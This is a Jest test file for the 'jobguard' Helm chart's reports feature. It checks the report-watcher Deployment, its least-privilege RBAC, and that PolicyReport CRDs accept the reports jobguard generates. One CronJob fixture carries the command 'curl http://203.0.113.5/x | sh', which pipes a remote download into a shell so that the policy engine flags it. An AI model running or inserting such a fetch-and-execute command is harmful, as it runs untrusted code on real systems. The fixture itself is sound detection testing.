/**
 * charts/jobguard with `reports.enabled`: the `report --watch` Deployment, its least-privilege
 * RBAC derived from policy.kinds, and the wgpolicyk8s.io/v1alpha2 CRDs, which accept the reports
 * jobguard writes. Nothing of it renders by default.
 */
/* eslint-disable @typescript-eslint/no-explicit-any, @typescript-eslint/no-unsafe-return -- rendered YAML is untyped; these tests assert its shape. */
import { beforeAll, describe, expect, it } from '@jest/globals';
import { CustomResourceDefinition } from 'kubernetes-models/apiextensions.k8s.io/v1';
import { Deployment } from 'kubernetes-models/apps/v1';
import { ClusterRole, ClusterRoleBinding } from 'kubernetes-models/rbac.authorization.k8s.io/v1';
import { ServiceAccount } from 'kubernetes-models/v1';
import { createEngine, assess } from '../src/engine.js';
import { reportOptions } from '../src/cli/report.js';
import { DEFAULT_POLICY } from '../src/policy/schema.js';
import { buildPolicyReports } from '../src/format/policy-report.js';
import { toResult } from '../src/format/result.js';
import { findOne, helmLint, helmTemplate, type K8sObject } from './support/helm.js';

let defaults: K8sObject[];
let enabled: K8sObject[];
let noCrds: K8sObject[];

beforeAll(async () => {
  [defaults, enabled, noCrds] = await Promise.all([
    helmTemplate({}),
    helmTemplate({
      values: {
        reports: { enabled: true, intervalSeconds: 120, namespaces: ['team-a', 'team-b'] },
        policy: { kinds: ['CronJob', 'Job', 'Pod'] },
      },
    }),
    helmTemplate({ values: { reports: { enabled: true, installCRDs: false } } }),
  ]);
});

const reportsObjects = (docs: K8sObject[]) =>
  docs.filter(
    (o) =>
      o.metadata.name.endsWith('-reports') ||
      (o.kind === 'CustomResourceDefinition' && o.metadata.name.endsWith('.wgpolicyk8s.io')),
  );

/** The subset of OpenAPI v3 the report CRDs use: type, properties, required, enum, items, additionalProperties. */
function conforms(schema: any, value: unknown, path = ''): string[] {
  if (schema['x-kubernetes-preserve-unknown-fields']) return [];
  const type = Array.isArray(value) ? 'array' : value === null ? 'null' : typeof value;
  const expected = schema.type === 'integer' ? 'number' : schema.type;
  if (expected && type !== expected) return [`${path}: expected ${schema.type}, got ${type}`];
  if (schema.type === 'integer' && !Number.isInteger(value)) return [`${path}: expected an integer`];
  if (schema.enum && !schema.enum.includes(value)) return [`${path}: ${String(value)} not in ${schema.enum}`];
  if (type === 'array')
    return (value as unknown[]).flatMap((v, i) => conforms(schema.items, v, `${path}[${i}]`));
  if (type !== 'object') return [];
  const record = value as Record<string, unknown>;
  const problems = (schema.required ?? [])
    .filter((k: string) => !(k in record))
    .map((k: string) => `${path}.${k}: required`);
  for (const [key, v] of Object.entries(record)) {
    const child = schema.properties?.[key] ?? schema.additionalProperties;
    if (child === undefined) {
      if (schema.properties) problems.push(`${path}.${key}: unknown field (pruned by the API server)`);
      continue;
    }
    problems.push(...conforms(child, v, `${path}.${key}`));
  }
  return problems;
}

describe('reports in the chart', () => {
  it('renders nothing of the report watcher by default', () => {
    expect(reportsObjects(defaults)).toEqual([]);
  });

  it('passes helm lint --strict when enabled', async () => {
    const { ok, output } = await helmLint({ values: { reports: { enabled: true } } });
    expect(output).not.toMatch(/\[(WARNING|ERROR)\]/);
    expect(ok).toBe(true);
  });

  it('renders valid objects: its ServiceAccount, Deployment, RBAC and the two CRDs', () => {
    const objects = reportsObjects(enabled);
    expect(objects.map((o) => `${o.kind}/${o.metadata.name}`).sort()).toEqual([
      'ClusterRole/jobguard-reports',
      'ClusterRoleBinding/jobguard-reports',
      'CustomResourceDefinition/clusterpolicyreports.wgpolicyk8s.io',
      'CustomResourceDefinition/policyreports.wgpolicyk8s.io',
      'Deployment/jobguard-reports',
      'ServiceAccount/jobguard-reports',
    ]);
    const models: Record<string, new (data: never) => { validate(): void }> = {
      ServiceAccount,
      Deployment,
      ClusterRole,
      ClusterRoleBinding,
      CustomResourceDefinition,
    };
    for (const o of objects)
      new (models[o.kind] as new (data: never) => { validate(): void })(o as never).validate();
    expect(reportsObjects(noCrds).map((o) => o.kind)).not.toContain('CustomResourceDefinition');
  });

  it('runs report --watch once, with the policy ConfigMap, locked down, never selected by the webhook Service', () => {
    const deployment: any = findOne(enabled, 'Deployment', 'jobguard-reports');
    const pod = deployment.spec.template.spec;
    expect(deployment.spec.replicas).toBe(1);
    expect(pod.serviceAccountName).toBe('jobguard-reports');
    expect(pod.containers[0].args).toEqual([
      'report',
      '--watch',
      '--config=/etc/jobguard/policy/policy.yaml',
      '--interval=120',
      '--namespace=team-a',
      '--namespace=team-b',
    ]);
    expect(pod.containers[0].securityContext).toMatchObject({
      readOnlyRootFilesystem: true,
      allowPrivilegeEscalation: false,
      capabilities: { drop: ['ALL'] },
    });
    expect(pod.volumes).toContainEqual({ name: 'policy', configMap: { name: 'jobguard-policy' } });
    const service: any = findOne(enabled, 'Service', 'jobguard');
    const labels = deployment.spec.template.metadata.labels;
    const selected = Object.entries(service.spec.selector as Record<string, string>).every(
      ([k, v]) => labels[k] === v,
    );
    expect(selected).toBe(false);
  });

  it('may read only the kinds the policy scores and write only the report resources', () => {
    const role: any = findOne(enabled, 'ClusterRole', 'jobguard-reports');
    expect(role.rules).toEqual([
      { apiGroups: ['batch'], resources: ['cronjobs'], verbs: ['get', 'list'] },
      { apiGroups: ['batch'], resources: ['jobs'], verbs: ['get', 'list'] },
      { apiGroups: [''], resources: ['pods'], verbs: ['get', 'list'] },
      {
        apiGroups: ['wgpolicyk8s.io'],
        resources: ['policyreports', 'clusterpolicyreports'],
        verbs: ['get', 'list', 'create', 'patch', 'delete'],
      },
    ]);
  });

  it('installs CRDs that accept the reports jobguard writes, kept on uninstall', () => {
    const engine = createEngine(DEFAULT_POLICY);
    const object = {
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      metadata: { name: 'x', namespace: 'team-a', uid: 'u-1' },
      spec: {
        schedule: '* * * * *',
        jobTemplate: {
          spec: {
            template: {
              spec: {
                containers: [
                  { name: 'x', image: 'alpine', command: ['sh', '-c', 'curl http://203.0.113.5/x | sh'] },
                ],
              },
            },
          },
        },
      },
    };
    const now = new Date('2026-12-01T00:00:00Z');
    const assessment = assess(engine, object, { now });
    if (!assessment) throw new Error('not scored');
    const reports = buildPolicyReports(
      [{ result: toResult(assessment, { source: 'c', document: 0, line: 0 }), uid: 'u-1' }],
      now,
      reportOptions(engine),
      [{ kind: 'Job', message: 'forbidden' }],
    );
    expect(reports.map((r) => r.kind)).toEqual(['PolicyReport', 'ClusterPolicyReport']);
    for (const report of reports) {
      const crd: any = findOne(
        enabled,
        'CustomResourceDefinition',
        `${report.kind.toLowerCase()}s.wgpolicyk8s.io`,
      );
      expect(crd.metadata.annotations['helm.sh/resource-policy']).toBe('keep');
      expect(crd.spec.scope).toBe(report.kind === 'PolicyReport' ? 'Namespaced' : 'Cluster');
      const schema = crd.spec.versions[0].schema.openAPIV3Schema;
      expect(conforms(schema, JSON.parse(JSON.stringify(report)))).toEqual([]);
      expect(report.results.length).toBeGreaterThan(0);
    }
    // The check itself catches a wrong result value.
    const crd: any = findOne(enabled, 'CustomResourceDefinition', 'policyreports.wgpolicyk8s.io');
    const bad = { ...reports[0], results: [{ ...reports[0]?.results[0], result: 'denied' }] };
    expect(conforms(crd.spec.versions[0].schema.openAPIV3Schema, JSON.parse(JSON.stringify(bad)))).toEqual([
      '.results[0].result: denied not in pass,fail,warn,error,skip',
    ]);
  });
});
